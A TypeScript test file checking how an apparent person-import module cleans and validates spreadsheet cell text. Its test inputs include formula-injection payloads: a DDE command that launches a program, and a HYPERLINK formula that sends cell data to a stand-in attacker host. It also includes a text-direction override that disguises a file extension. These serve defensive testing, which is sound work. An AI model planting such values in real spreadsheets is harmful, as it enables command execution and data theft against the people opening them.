import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { cleanText, foldText, saysNothing, showableText } from "./person-import-text.ts";

describe("a cell's text", () => {
  test.each([
    ["  Production       ", "Production"],
    ["Ines\u00A0Okafor", "Ines Okafor"],
    ["Per  K", "Per K"],
    ["Sales\nEMEA", "Sales EMEA"],
    ["Jose\u0301", "José"],
    ["\uFEFFInes\u200B", "Ines"],
    ["- none yet", "- none yet"],
    ["-", "-"],
    ["محمد علي", "محمد علي"],
  ])("%j is kept as %j", (raw, text) => {
    expect(cleanText(raw, 200)).toEqual({ text, problem: null });
  });

  test.each([
    ["=cmd|' /C calc'!A0", "formula"],
    ["+1+1", "formula"],
    ["-2+3", "formula"],
    ["@SUM(A1)", "formula"],
    ["\t=1", "formula"],
    ["\tInes", "formula"],
    ["\rInes", "formula"],
    ["＝1+1", "formula"],
    ['=HYPERLINK("http://evil.example?"&A1)', "formula"],
    ["  =1", "formula"],
    ["Ines\0", "control_character"],
    ["\u0007", "control_character"],
    ["In\u0085es", null],
    ["\uD800abc", "control_character"],
    ["abc\u202Egnp.exe", "text_direction"],
    ["x".repeat(201), "too_long"],
    ["M\uFFFDller", "broken_character"],
  ])("%j is found to be %s", (raw, problem) => {
    expect(cleanText(raw, 200).problem).toBe(raw === "In\u0085es" ? "control_character" : problem);
  });

  test("signs are counted, not code units", () => {
    expect(cleanText("𠮷".repeat(200), 200).problem).toBeNull();
  });

  test("cleaning twice is cleaning once", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (raw) => {
        const once = cleanText(raw.toWellFormed(), 200).text;
        expect(cleanText(once, 200).text).toBe(once);
      }),
    );
  });
});

test("what is shown of a cell is one short line without hidden signs", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary", maxLength: 300 }), (raw) => {
      const shown = showableText(raw);
      expect([...shown].length).toBeLessThanOrEqual(60);
      expect(shown).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}]/u);
    }),
  );
});

test("programs' words for nothing say nothing, names do", () => {
  for (const text of ["", "-", "N/A", "#N/A", "NULL", "none"]) expect(saysNothing(text)).toBe(true);
  for (const text of ["0", "no", "Nil Baker"]) expect(saysNothing(text)).toBe(false);
});

test("accents of Latin letters are folded, other scripts stay", () => {
  expect(foldText("Ærø Straße Ngô")).toBe("aero strasse ngo");
  expect(foldText("が")).toBe("が");
});
